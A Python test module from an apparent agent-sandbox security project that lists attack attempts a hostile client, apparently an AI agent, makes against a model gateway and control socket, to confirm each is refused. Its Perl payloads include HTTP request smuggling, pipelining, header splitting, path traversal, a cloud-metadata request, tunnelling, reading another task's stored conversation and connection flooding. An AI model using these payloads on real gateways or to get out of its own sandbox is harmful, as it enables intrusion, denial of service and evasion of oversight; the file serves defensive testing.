"""The model gateway and the control socket, which face a hostile client: what reaches the other side of them?

Controls send the same through a plain pipe. What got through is what the provider, or the runner, has heard. A payload
begins when a request without the trick was answered, so that it is the trick that is refused.
"""

from agentcontainer.domain.models.catalogue import Provider as Name
from agentcontainer.prove.attempt import Attempt, Group
from agentcontainer.prove.payload import perl
from agentcontainer.prove.served import MODEL, by_control, by_gateway, by_pipe
from agentcontainer.prove.targets import nonce_only

ANTHROPIC, OPENAI = "/anthropic/v1/messages", "/openai/v1/responses"
_MESSAGES = '"messages":[{"role":"user","content":"Hello."}],"max_tokens":5'
_PLAIN = {
    ANTHROPIC: f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}))',
    OPENAI: f'post("{OPENAI}", qq({{"model":"{MODEL}","input":"x"}}))',
}
_PLAIN_FINISH = 'post("/finish", qq({"completion":"complete","message":"Done.","cwd":"/"}))'
_CONNECTIONS = 200
_FLOOD = f"""
my @open; for (1 .. {_CONNECTIONS}) {{
    socket(my $s, AF_UNIX, SOCK_STREAM, 0) or last; connect($s, sockaddr_un($gateway)) and push @open, $s;
}}
nap 1; my $left = grep {{ syswrite($_, "P") }} @open; nap 0.5; $left = grep {{ defined syswrite($_, "O") }} @open;
print $ARGV[0] if $left == {_CONNECTIONS};
"""


def _sends(socket: str, plain: str, script: str) -> str:
    """Perl that sends what `script` returns (`$n` is the nonce) once the plain request was answered."""
    return (
        f"sub ask {{ my ($n) = @ARGV; {script} }} unix({socket}, {plain}) =~ m|^HTTP/1.1 200| or die 'not served';"
        f"begin; unix({socket}, ask());"
    )


def _asks(name: str, tries: str, script: str, path: str = ANTHROPIC) -> Attempt:
    """A request to the gateway of a task whose provider has that path."""
    provider: Name = "openai" if path == OPENAI else "anthropic"
    payload = perl(_sends("$gateway", _PLAIN[path], script), begins=False)
    return Attempt(name, tries, payload, nonce_only, by_gateway(provider), by_pipe())


def _body(name: str, tries: str, fields: str, path: str = ANTHROPIC) -> Attempt:
    """A model request with these fields beside a good beginning."""
    return _asks(name, tries, f'post("{path}", qq({{"model":"{MODEL}",{fields}}}))', path)


def _finish(name: str, tries: str, script: str) -> Attempt:
    """A request to the control socket."""
    payload = perl(_sends("$control", _PLAIN_FINISH, script), begins=False)
    return Attempt(name, tries, payload, nonce_only, by_control, by_pipe())


GATEWAY = Group(
    "gateway",
    (
        _asks(
            "another-model",
            "Asks a model that is not its task's.",
            f'post("{ANTHROPIC}", qq({{"model":"$n",{_MESSAGES}}}))',
        ),
        _body("twice-a-model", "Names a model twice, the second time another.", f'"model":"$n",{_MESSAGES}'),
        _body(
            "fallback",
            "Asks another model in case its own has no time.",
            f'"fallbacks":[{{"model":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "hosted-tool",
            "Has the provider search the web for it.",
            f'"tools":[{{"type":"web_search","name":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "fetch-image",
            "Has the provider fetch a URL for it, with what it wants to carry out.",
            '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://x/$n"}}]}]',
        ),
        _body(
            "stored-item",
            "Reads another task's stored conversation at the provider.",
            '"input":"x","previous_response_id":"$n"',
            OPENAI,
        ),
        _body("unknown-field", "Uses a field that nobody has looked at.", f'"$n":1,{_MESSAGES}'),
        _asks(
            "another-provider",
            "Asks another provider.",
            f'post("{OPENAI}", qq({{"model":"{MODEL}","input":"$n"}}))',
        ),
        _asks(
            "another-path",
            "Asks the provider for something else than an answer.",
            'post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "dots", "Climbs out of the path that is allowed.", f'post("{ANTHROPIC}/../../files/$n", "{{}}")'
        ),
        _asks(
            "query",
            "Adds a query to the path.",
            f'post("{ANTHROPIC}?$n=1", qq({{"model":"{MODEL}",{_MESSAGES}}}))',
        ),
        _asks(
            "header",
            "Sends a header of its own along.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "Anthropic-Organization: $n", "Cookie: $n")',
        ),
        _asks(
            "own-key",
            "Uses the task's models with a key of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "x-api-key: $n")',
        ),
        _asks(
            "absolute", "Names another server in the request line.", 'post("http://169.254.169.254/$n", "{}")'
        ),
        _asks(
            "tunnel",
            "Asks for a tunnel to another server.",
            '"CONNECT $n.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
        ),
        _asks(
            "smuggled",
            "Hides a second request in the body of the first, by two lengths.",
            'my $inner = post("/v1/files/$n", ""); post("' + ANTHROPIC + '", "0\\r\\n\\r\\n$inner",'
            '"Content-Length: " . (5 + length $inner), "Transfer-Encoding: chunked")',
        ),
        _asks(
            "pipelined",
            "Sends a second request behind the first, which is refused.",
            'my $first = post("/x", "{}"); $first =~ s/Connection: close\\r\\n//;'
            '$first . post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "split-header",
            "Breaks a header's value into a header of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "anthropic-beta: x\\n$n: y")',
        ),
        _asks(
            "endless-body",
            "Sends a body that is larger than memory shall be.",
            'my $fill = "x" x (34 * 1048576);'
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}","system":"$fill$n",{_MESSAGES}}}))',
        ),
        Attempt(
            "connections",
            "Holds so many connections open that others get none.",
            perl(_FLOOD),
            nonce_only,
            by_gateway(is_heard=False),
            by_pipe(is_heard=False),
        ),
        _finish(
            "endless-finish",
            "Calls finish with a message that has no end.",
            'my $fill = "x" x 2000000; post("/finish", qq({"completion":"complete","message":"$fill$n","cwd":"/"}))',
        ),
        _finish(
            "odd-finish",
            "Calls finish with what is not its own to say.",
            'post("/finish", qq({"completion":"complete","message":"$n","cwd":"/","taskId":"tsk_other"}))',
        ),
        _finish(
            "deep-finish",
            "Calls finish with JSON so deep that a parser falls.",
            'my $deep = "[" x 100000; post("/finish", qq({"message":"$n","files":$deep))',
        ),
    ),
)
